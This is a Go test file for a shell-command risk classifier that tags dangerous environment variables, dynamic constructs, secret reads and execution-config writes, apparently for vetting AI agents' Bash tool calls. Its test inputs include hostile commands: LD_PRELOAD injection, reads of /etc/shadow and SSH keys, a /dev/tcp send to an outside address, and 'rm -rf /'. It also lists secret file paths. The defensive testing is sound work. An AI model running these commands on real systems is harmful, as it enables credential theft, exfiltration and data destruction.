package risk

import (
	"maps"
	"slices"
	"strings"
	"testing"
)

// TestEnvExec checks the environment table row by row.
func TestEnvExec(t *testing.T) {
	for _, name := range []string{"LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PATH", "IFS",
		"BASH_ENV", "ENV", "SHELLOPTS", "PS4", "PROMPT_COMMAND", "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0",
		"GIT_EXTERNAL_DIFF", "GIT_SSH_COMMAND", "GIT_EDITOR", "GIT_PAGER", "GIT_DIR", "GIT_EXEC_PATH",
		"GIT_CONFIG_GLOBAL", "PAGER", "SYSTEMD_PAGER", "EDITOR", "VISUAL", "LESSOPEN", "LESSCLOSE", "MANPAGER",
		"PYTHONSTARTUP", "PYTHONPATH", "NODE_OPTIONS", "NODE_PATH", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB",
		"JAVA_TOOL_OPTIONS", "XDG_CONFIG_HOME", "HOME", "ZDOTDIR", "SSH_ASKPASS", "GCONV_PATH", "GOFLAGS",
		"CGO_CFLAGS", "CC", "BASH_FUNC_ls%%", "KUBECONFIG", "AWS_CONFIG_FILE", "npm_config_script_shell"} {
		if _, ok := envExec(name); !ok {
			t.Errorf("%s: setting it must be shell.env_exec", name)
		}
	}
	for _, name := range []string{"FOO", "DEBUG", "NODE_ENV", "CGO_ENABLED", "GOOS", "GOARCH", "LANG", "LC_ALL", "TZ",
		"CI", "RUST_LOG", "TERM", "NO_COLOR", "GO111MODULE"} {
		if _, ok := envExec(name); ok {
			t.Errorf("%s: setting it changes nothing that runs", name)
		}
	}
	for _, r := range envExecRules {
		if r.source == "" || r.name == "" && r.prefix == "" && r.suffix == "" {
			t.Errorf("rule %+v: needs a name and a source", r)
		}
	}
	for _, name := range []string{"PROMPT_COMMAND", "PS4", "BASH_ENV", "ENV"} {
		if r, _ := envExec(name); !r.hook {
			t.Errorf("%s: the shell runs its value; it must be a hook", name)
		}
	}
}

// TestShellEnvFacts: each command carries the variables set for it.
func TestShellEnvFacts(t *testing.T) {
	cases := []struct {
		src  string
		env  []map[string]string // per command
		exec bool                // shell.env_exec
	}{
		{"FOO=1 ls", []map[string]string{{"FOO": "1"}}, false},
		{"LD_PRELOAD=/tmp/x.so ls -la", []map[string]string{{"LD_PRELOAD": "/tmp/x.so"}}, true},
		{"env A=1 B=2 ls", []map[string]string{{"A": "1", "B": "2"}}, false},
		{"env LD_PRELOAD=x ls", []map[string]string{{"LD_PRELOAD": "x"}}, true},
		{"export A=1; ls; B=2 pwd", []map[string]string{{"A": "1"}, {"A": "1", "B": "2"}}, false},
		{"ls; export A=1", []map[string]string{nil}, false},
		{"declare -x GIT_DIR=/x; git status", []map[string]string{{"GIT_DIR": "/x"}}, true},
		{"PATH=/tmp/evil; ls", []map[string]string{{"PATH": "/tmp/evil"}}, true},
		{"X=1; ls", []map[string]string{nil}, false},
		{"FOO=1 sh -c 'ls'", []map[string]string{{"FOO": "1"}}, false},
		{"GIT_PAGER=id git log", []map[string]string{{"GIT_PAGER": "id"}}, true},
		{"read -r PATH < f; ls", []map[string]string{nil, nil}, true},
		{"for HOME in /tmp; do ls; done", []map[string]string{nil}, true},
	}
	for _, c := range cases {
		f, tags := ClassifyShell(c.src)
		if len(f.Commands) != len(c.env) {
			t.Errorf("%q: %d commands, want %d: %+v", c.src, len(f.Commands), len(c.env), f.Commands)
			continue
		}
		for i, cmd := range f.Commands {
			if !maps.Equal(cmd.Env, c.env[i]) {
				t.Errorf("%q: %s env %v, want %v", c.src, cmd.Name, cmd.Env, c.env[i])
			}
		}
		if slices.Contains(tags, "shell.env_exec") != c.exec {
			t.Errorf("%q: tags %v, env_exec should be %v", c.src, tags, c.exec)
		}
	}
}

// TestShellDynamicConstructs: what rein does not model is shell.dynamic
// with a fact naming it; arithmetic on numbers rein knows is not.
func TestShellDynamicConstructs(t *testing.T) {
	dynamic := map[string]string{
		"x='a[$(id)]'; echo $((x))":         "arithmetic",
		"(( x ))":                           "arithmetic",
		"x=$(cat f); echo $((x + 1))":       "arithmetic",
		"[[ $x -eq 1 ]]":                    "[[",
		"[[ -v $x ]]":                       "-v",
		"echo ${a[$x]}":                     "subscript",
		"echo ${a[x]}":                      "subscript",
		"a[$x]=1":                           "subscript",
		"let y=x":                           "let",
		"echo ${y:x}":                       "substring",
		"declare -i y=$z":                   "-i",
		"echo ${x@P}":                       "@P",
		"echo ${x@E}":                       "@E",
		"echo ${x@A}":                       "@A",
		"echo ${x@K}":                       "@K",
		"echo ${!x}":                        "indirection",
		"declare -n r=x":                    "nameref",
		"local -n r=x":                      "nameref",
		"eval \"$x\"":                       "script",
		"trap 'ls' EXIT":                    "trap",
		"coproc cat":                        "coproc",
		"PROMPT_COMMAND=ls":                 "PROMPT_COMMAND",
		"PS4='$(id)' bash -x s.sh":          "PS4",
		"BASH_ENV=x bash s.sh":              "BASH_ENV",
		"python3 <<EOF\nprint(1)\nEOF":      "here-doc",
		"node <<< 'x'":                      "here-doc",
		"bash <<EOF\n$(curl x)\nEOF":        "expansions",
		"hash -p /tmp/x ls":                 "hash",
		"echo 'import os' | python3":        "piped",
		"git diff $OPTS":                    "options",
		"git log \"$X\" -1":                 "options",
		"date $X":                           "options",
		"read 'a[$(id)]'":                   "subscript",
		"printf -v 'a[$x]' %s 1":            "subscript",
		"unset 'a[$(id)]'":                  "subscript",
		"test -v 'a[$(id)]'":                "subscript",
		"mapfile -C cb arr < f":             "-C",
		"for ((i=0; i<n; i++)); do :; done": "arithmetic",
	}
	for src, want := range dynamic {
		f, tags := ClassifyShell(src)
		if !slices.Contains(tags, tDY) {
			t.Errorf("%q: tags %v lack shell.dynamic", src, tags)
			continue
		}
		found := false
		for _, d := range f.Dynamic {
			found = found || strings.Contains(d.Construct, want)
			if d.At == "" && !strings.Contains(d.Construct, "nesting") && !strings.Contains(d.Construct, "awk") {
				t.Errorf("%q: %q has no position", src, d.Construct)
			}
		}
		if !found {
			t.Errorf("%q: dynamic facts %+v do not name %q", src, f.Dynamic, want)
		}
	}
	for _, src := range []string{"echo $((1 + 2))", "x=3; echo $((x * 2))", "for ((i=0; i<3; i++)); do echo $i; done",
		"echo ${#x}", "echo ${a[0]}", "echo ${a[@]}", "echo ${!a[@]}", "[[ 1 -eq 1 ]]", "n=5; [[ $n -gt 2 ]]",
		"echo ${x@Q}", "echo ${x:-default}", "i=0; ((i++)); echo $i", "echo $(($# + 1))", "trap - EXIT",
		"trap '' INT", "declare -i n=4", "ls \"$PWD\"", "cat $F", "git status $X", "grep \"$P\" f", "read -r line < f", "echo ${x:1:2}", "bash <<'EOF'\nls\nEOF"} {
		if f, tags := ClassifyShell(src); slices.Contains(tags, tDY) {
			t.Errorf("%q: shell.dynamic %+v; rein models this exactly", src, f.Dynamic)
		}
	}
}

// TestShellReadsWrites: files read and written, through options, operands
// and redirections, and the tags they bring.
func TestShellReadsWrites(t *testing.T) {
	cases := []struct {
		src            string
		reads, writes  string // of the first command
		scriptWrites   string
		tags           []string
		readOnly, noRO bool
		pick           string // the command judged, when not the first
	}{
		{src: "cat a b", reads: "a,b", readOnly: true},
		{src: "wc -l < in.txt", reads: "in.txt", readOnly: true},
		{src: "ls > out.txt", writes: "out.txt", scriptWrites: "out.txt", tags: []string{"shell.write"}, noRO: true},
		{src: "ls 2>/dev/null >&2", readOnly: true},
		{src: "cat /dev/null >& prod.db", reads: "/dev/null", writes: "prod.db", scriptWrites: "prod.db", tags: []string{"shell.write"}, noRO: true},
		{src: "> prod.db", scriptWrites: "prod.db", tags: []string{"shell.write"}},
		{src: "{ ls; } > x", scriptWrites: "x", tags: []string{"shell.write"}, readOnly: true},
		{src: "git diff --output=prod.db", writes: "prod.db", tags: []string{"shell.write"}, noRO: true},
		{src: "echo x > .git/hooks/pre-push", writes: ".git/hooks/pre-push", scriptWrites: ".git/hooks/pre-push", tags: []string{"shell.write", "shell.exec_config"}, noRO: true},
		{src: "cp a ~/.ssh/config", reads: "a", writes: "~/.ssh/config", tags: []string{"shell.write", "shell.exec_config"}, noRO: true},
		{src: "head ~/.s*/id_*", reads: "~/.s*/id_*", tags: []string{tS}, noRO: true},
		{src: "cat /proc/self/root/etc/shadow", reads: "/proc/self/root/etc/shadow", tags: []string{tS}, noRO: true},
		{src: "grep -r key ~", reads: "~", tags: []string{tS}, noRO: true},
		{src: "grep -r key src", reads: "src", noRO: true}, // src/.env would be read too
		{src: "grep -rn '' .", reads: ".", noRO: true},
		{src: "ls -a | xargs cat", pick: "cat", noRO: true}, // xargs gives cat the names ls printed: .env among them
		{src: "xargs -0 head < files.txt", noRO: true},
		{src: "parallel cat ::: .env", tags: []string{"shell.secrets"}, noRO: true},
		{src: "parallel cat :::: names.txt", noRO: true},
		{src: "grep -d recurse AWS_ .", reads: ".", noRO: true},
		{src: "grep -r key --include=*.go src", reads: "*.go,src", readOnly: true},
		{src: "grep -r key --include=.env* .", tags: []string{"shell.secrets"}, noRO: true},
		{src: "date -f /etc/shadow", reads: "/etc/shadow", tags: []string{tS}, noRO: true},
		{src: "cat $F", reads: "$F", noRO: true},
		{src: "./cat README.md", reads: "README.md", noRO: true},
		{src: "/usr/bin/cat README.md", reads: "README.md", readOnly: true},
		{src: "cat() { :; }; cat README.md", noRO: true},
		{src: "./git -c alias.x='!ls' log", pick: "git", noRO: true},
		{src: "echo hi > /dev/tcp/203.0.113.9/80", writes: "/dev/tcp/203.0.113.9/80", scriptWrites: "/dev/tcp/203.0.113.9/80", tags: []string{tN, tE, "shell.write"}, noRO: true},
		{src: "cat < /dev/tcp/203.0.113.9/80", reads: "/dev/tcp/203.0.113.9/80", tags: []string{tN}, noRO: true},
	}
	for _, c := range cases {
		f, tags := ClassifyShell(c.src)
		var first ShellCommand
		for _, cmd := range f.Commands {
			if cmd.Name != ":" && (c.pick == "" || cmd.Name == c.pick) {
				first = cmd
				break
			}
		}
		if got := strings.Join(first.Reads, ","); c.reads != "" && got != c.reads {
			t.Errorf("%q: reads %q, want %q", c.src, got, c.reads)
		}
		if got := strings.Join(first.Writes, ","); got != c.writes {
			t.Errorf("%q: writes %q, want %q", c.src, got, c.writes)
		}
		if got := strings.Join(f.Writes, ","); got != c.scriptWrites {
			t.Errorf("%q: script writes %q, want %q", c.src, got, c.scriptWrites)
		}
		for _, tag := range c.tags {
			if !slices.Contains(tags, tag) {
				t.Errorf("%q: tags %v lack %s", c.src, tags, tag)
			}
		}
		if c.readOnly && !first.ReadOnly || c.noRO && first.ReadOnly {
			t.Errorf("%q: read_only %v", c.src, first.ReadOnly)
		}
	}
}

// TestShellFilesTables checks the path judgments the shell adds.
func TestShellFilesTables(t *testing.T) {
	for _, p := range []string{"/etc/shadow", "/etc/shadow-", "/etc/gshadow-", "/proc/self/root/etc/shadow",
		"/proc/1/root/root/.ssh/id_rsa", "/proc/self/cwd/../../etc/shadow", "/proc/1/environ", "/proc/self/fd/3",
		"/dev/sda", "/dev/nvme0n1", "/dev/mem", "/proc/kcore", "~/.bash_history", "/home/a/.zsh_history",
		"/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/x", "~/.config/gh/hosts.yml",
		"/etc/ssh/ssh_host_ed25519_key", "~/.vault-token", "/etc/krb5.keytab"} {
		if !secretPath(p) {
			t.Errorf("%s: reading it can reveal a secret", p)
		}
	}
	for _, p := range []string{"README.md", "/etc/hosts", "/dev/null", "/dev/urandom", "/proc/cpuinfo", "src/main.go",
		"/etc/ssh/sshd_config", "/dev/fd/0"} {
		if secretPath(p) {
			t.Errorf("%s: not a secret", p)
		}
	}
	for _, p := range []string{"~/.s*/id_*", "~/.ss?/id_rsa", "~/.[s]sh/id_rsa", "/etc/sha*", "/e*/shadow",
		"~/.*/credentials", "~/.a*/c*", "~/.*/*", "*"} {
		if !globCouldReadSecret(p, "") {
			t.Errorf("%s: could match a secret", p)
		}
	}
	for _, p := range []string{"src/*.go", "*.txt", "docs/*.md", "build/[0-9]*.log"} {
		if globCouldReadSecret(p, "") {
			t.Errorf("%s: cannot match a secret", p)
		}
	}
	for _, p := range []string{".git/config", ".git/hooks/pre-commit", "~/.gitconfig", "~/.ssh/config",
		"~/.ssh/authorized_keys", "/etc/cron.d/job", "/etc/ld.so.preload", ".github/workflows/ci.yml", ".envrc",
		"~/.bashrc", "~/.config/systemd/user/x.service"} {
		if !execConfigPath(p) {
			t.Errorf("%s: writing it arms later execution", p)
		}
	}
	for _, p := range []string{"out.txt", "src/main.go", "build/app", "notes.md"} {
		if execConfigPath(p) {
			t.Errorf("%s: not an execution config", p)
		}
	}
	for _, p := range []string{"/", "~", "~/", "/home", "/root", "/etc", "..", "../..", "/proc"} {
		if !reachesSecrets(p, "") {
			t.Errorf("a recursive read of %s can reach secrets", p)
		}
	}
	for _, p := range []string{".", "src", "./docs", "/usr/include"} {
		if reachesSecrets(p, "") {
			t.Errorf("a recursive read of %s reaches no secret rein knows", p)
		}
	}
	for w, want := range map[string]bool{"ls": true, "/bin/ls": true, "/usr/bin/git": true, "/usr/local/bin/x": true,
		"/usr/sbin/x": true, "./ls": false, "/tmp/x/cat": false, "bin/git": false, "~/bin/ls": false,
		"/usr/bin/../../tmp/ls": false} {
		if got := resolvedName(shWord{text: w, lit: true}); got != want {
			t.Errorf("resolvedName(%s) = %v", w, got)
		}
	}
}

// TestArgvList: an argument holding a list of strings is one command run
// as an argv, not several scripts.
func TestArgvList(t *testing.T) {
	a := Assess("Bash", map[string]any{"command": []any{"rm", "-rf", "/"}}, Env{})
	if !slices.Contains(a.Tags, tD) {
		t.Errorf("rm -rf / as a list: tags %v", a.Tags)
	}
	cmds := a.Facts["shell"].(map[string]any)["commands"].([]any)
	if len(cmds) != 1 || cmds[0].(map[string]any)["name"] != "rm" {
		t.Fatalf("commands %v", cmds)
	}
	// Each element is one word, whatever it holds.
	a = Assess("Bash", map[string]any{"command": []any{"echo", "a; rm -rf /"}}, Env{})
	if slices.Contains(a.Tags, tD) {
		t.Errorf("echo with one argument: tags %v", a.Tags)
	}
	a = Assess("Bash", map[string]any{"command": []any{"bash", "-c", "rm -rf ~"}}, Env{})
	if !slices.Contains(a.Tags, tD) {
		t.Errorf("bash -c as a list: tags %v", a.Tags)
	}
	if got := scriptsAt(map[string]any{"c": []any{"ls", "-l", 3.0}}, "c"); len(got) != 1 || got[0] != "ls -l 3" {
		t.Errorf("scriptsAt: %q", got)
	}
	// The new facts are always there for policies to read.
	a = Assess("Bash", map[string]any{"command": "LD_PRELOAD=x ls > out"}, Env{})
	sh := a.Facts["shell"].(map[string]any)
	c := sh["commands"].([]any)[0].(map[string]any)
	if c["env"].(map[string]any)["LD_PRELOAD"] != "x" || c["read_only"] != false || c["resolved"] != true ||
		len(c["writes"].([]any)) != 1 || len(sh["writes"].([]any)) != 1 || sh["dynamic"] == nil {
		t.Errorf("facts %v", sh)
	}
	if e := EmptyFacts()["shell"].(map[string]any); e["dynamic"] == nil || e["writes"] == nil {
		t.Errorf("empty facts %v", e)
	}
}

// TestShellGlobBudget: many globs stay cheap, and past the budget a glob
// read counts as a secret read.
func TestShellGlobBudget(t *testing.T) {
	src := strings.Repeat("cat src/*.go; ", maxGlobChecks)
	if _, tags := ClassifyShell(src); slices.Contains(tags, tS) {
		t.Errorf("%d harmless globs: %v", maxGlobChecks, tags)
	}
	if _, tags := ClassifyShell(src + "cat src/*.go"); !slices.Contains(tags, tS) {
		t.Errorf("a glob past the budget must count as a secret read: %v", tags)
	}
}
